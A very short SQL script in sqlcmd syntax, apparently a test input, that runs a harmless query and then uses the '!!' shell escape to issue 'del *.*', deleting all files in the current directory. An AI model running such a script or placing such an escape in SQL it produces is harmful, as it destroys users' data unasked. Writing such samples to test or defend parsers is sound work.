SELECT 1
GO
!! del *.*
